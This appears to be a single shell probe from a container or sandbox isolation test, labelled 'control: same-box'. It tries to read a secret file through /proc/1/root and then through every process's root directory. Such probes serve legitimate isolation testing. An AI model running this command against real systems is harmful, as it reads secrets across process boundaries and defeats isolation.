# Reads a secret by way of the root of process 1.
# control: same-box
cat "/proc/1/root$SECRET" || for p in /proc/[0-9]*; do cat "$p/root$SECRET"; done
